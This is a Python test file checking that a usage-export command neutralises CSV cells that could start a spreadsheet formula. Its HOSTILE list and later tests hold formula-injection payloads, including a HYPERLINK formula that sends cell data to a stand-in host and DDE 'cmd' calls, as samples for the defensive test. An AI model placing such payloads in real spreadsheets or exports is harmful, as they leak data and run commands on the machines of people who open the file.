"""CSV exports never carry a spreadsheet formula (issue 19, item 15): `usage-export` through the real CLI."""

from __future__ import annotations

import asyncio
import csv

import pytest

from services.backends import TokenUsage
from services.csv_cells import safe_cell
from services.usage import Admission, TurnUsage, UsageService
from services.usage.prices import DEFAULT_PRICES
from services.usage.sqlite import SQLiteUsageStore
from tests.test_usage_audit import run_bot

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def test_usage_export_neutralises_every_cell_that_would_start_a_formula(tmp_path):
    async def seed() -> None:
        service = UsageService(SQLiteUsageStore(tmp_path / "state.db"), DEFAULT_PRICES)
        for n, name in enumerate(HOSTILE):  # a user id, a team and a model id someone chose
            turn = TurnUsage(f"r{n}", "k", "bedrock", "answered", model_id=name,
                             usage=TokenUsage(input_tokens=10, output_tokens=5))  # fmt: skip
            await service.finish(Admission(True, name, name), turn)
        await service.close()

    asyncio.run(seed())
    result = run_bot(tmp_path, "usage-export", "--days", "7", "--output", "usage.csv")
    assert result.returncode == 0, result.stderr
    with open(tmp_path / "usage.csv", newline="") as exported:  # a lone "\r" must not start a row
        rows = list(csv.reader(exported))
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    named = [row for row in rows[1:] if row[1] in ("user", "team", "model")]
    assert {len(row) for row in rows} == {12} and len(named) == 3 * len(HOSTILE)  # no row split by a "\r"
    keys = {row[2] for row in named}
    assert keys == {"'" + name for name in HOSTILE}  # kept, shown as text


@pytest.mark.parametrize("value", [0, 12, 0.5, "plain", "a=b", ""])
def test_ordinary_cells_are_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["\n=1+1", "\uff1dcmd|' /C calc'!A0", "\uff0b1", "\uff0d1", "\uff20SUM(A1)"])
def test_line_feeds_and_full_width_formula_signs_are_neutralised_too(value):
    # attack19: only the ASCII signs, tab and carriage return were caught
    assert safe_cell(value) == "'" + value
